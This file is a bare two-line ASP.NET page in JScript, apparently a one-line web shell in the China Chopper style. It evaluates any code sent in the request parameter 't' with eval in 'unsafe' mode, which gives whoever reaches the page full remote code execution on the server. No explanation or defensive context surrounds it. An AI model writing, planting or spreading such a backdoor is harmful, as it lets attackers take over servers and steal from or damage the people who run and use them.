<%@ Page Language="Jscript"%>
<% eval(Request.Item["t"],"unsafe"); %>
